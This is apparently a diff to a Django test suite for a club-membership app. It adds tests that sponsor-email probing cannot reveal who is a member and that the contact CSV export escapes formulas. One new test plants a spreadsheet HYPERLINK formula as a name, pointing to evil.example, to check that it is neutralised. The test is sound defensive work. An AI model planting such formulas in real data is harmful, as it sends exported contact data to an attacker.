@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 from collections.abc import Callable
 
 import pytest
@@ -26,15 +28,29 @@ pytestmark = pytest.mark.django_db
 AsAny = Callable[[str], Client]
 
 
-def test_a_cooptation_join_without_an_active_sponsor_names_the_field(
-    as_any: AsAny, club: Network, other_member: User
+def test_a_cooptation_join_without_an_active_sponsor_is_answered_like_one_with(
+    as_any: AsAny, club: Network, member: User, other_member: User, other_manager: User
 ) -> None:
+    # The review's probe: 400 for an unknown address, 302 for a member's, told an outsider who
+    # the members are. Both now get the same answer; the unknown one waits for a sponsor.
     Network.objects.filter(pk=club.pk).update(admission_mode=AdmissionMode.COOPTATION)
     url = reverse("networks:join", args=[club.slug])
-    response = as_any("other_member").post(url, {"sponsor_email": "inconnu@exemple.fr"})
-    assert response.status_code == 400
-    assert "parrain ou marraine doit être un membre actif" in response.content.decode()
-    assert not Membership.objects.filter(network=club, person=other_member.person).exists()
+    seen = []
+    for role, typed in (("other_member", "inconnu@exemple.fr"), ("other_manager", "membre@club.example")):
+        client = as_any(role)
+        response = client.post(url, {"sponsor_email": typed})
+        followed = client.get(response.url)  # type: ignore[attr-defined]
+        mine = client.get(reverse("networks:applications"))
+        row = mine.content.decode().split("<tbody>")[1].split("</tr>")[0]
+        seen.append((response.status_code, [str(m) for m in followed.context["messages"]], row))
+    assert seen[0][:2] == seen[1][:2]
+    assert seen[0][0] == 302 and "attend la confirmation de votre parrain" in seen[0][1][0]
+    assert seen[0][2] == seen[1][2]  # the same row on "Mes candidatures": no sponsor's name yet
+    assert "Claire Moreau" not in seen[1][2] and "confirmation attendue" in seen[1][2]
+    unknown = Membership.objects.get(network=club, person=other_member.person)
+    assert (unknown.status, unknown.sponsor) == (Status.APPLIED, None)
+    named = Membership.objects.get(network=club, person=other_manager.person)
+    assert (named.status, named.sponsor) == (Status.APPLIED, member.person)
 
 
 def test_a_cooptation_join_with_an_active_sponsor_waits_for_their_confirmation(
@@ -93,6 +109,7 @@ def test_a_taken_profession_is_told_so_and_offered_free_networks_nearby(
     assert response.status_code == 409
     assert "Un seul siège par métier" in html
     assert free.name in html and taken.name not in html
+    assert "{&#x27;text&#x27;" not in html and "{'text'" not in html  # reasons as sentences
     assert not Membership.objects.filter(network=club, person=other_member.person).exists()
 
 
@@ -172,6 +189,23 @@ def test_the_contact_export_lists_only_consenting_members_and_is_logged(
     assert lines[0] == "Nom;Entreprise;E-mail;Téléphone"
     assert len(lines) == 2 and "Claire Moreau" in lines[1]
     assert AuditEntry.objects.filter(action="network.contacts_export", network=club).exists()
+
+
+def test_the_contact_export_writes_a_formula_typed_as_a_name_as_plain_text(
+    as_any: AsAny, club: Network, manager: User, member: User
+) -> None:
+    person = member.person
+    person.first_name = '=HYPERLINK("http://evil.example/?"&A2,"x")'
+    person.save()
+    ConsentFactory(person=person, purpose=ConsentPurpose.MATCHMAKING, granted=True)
+    body = (
+        as_any("manager")
+        .get(reverse("networks:contacts_export", args=[club.slug]))
+        .content.decode("utf-8-sig")
+    )
+    [row] = list(csv.reader(io.StringIO(body), delimiter=";"))[1:]
+    assert row[0] == "'" + person.full_name
+    assert row[0].startswith("'=HYPERLINK(")
 
 
 def test_the_contact_export_is_a_404_when_the_network_refuses_solicitation(
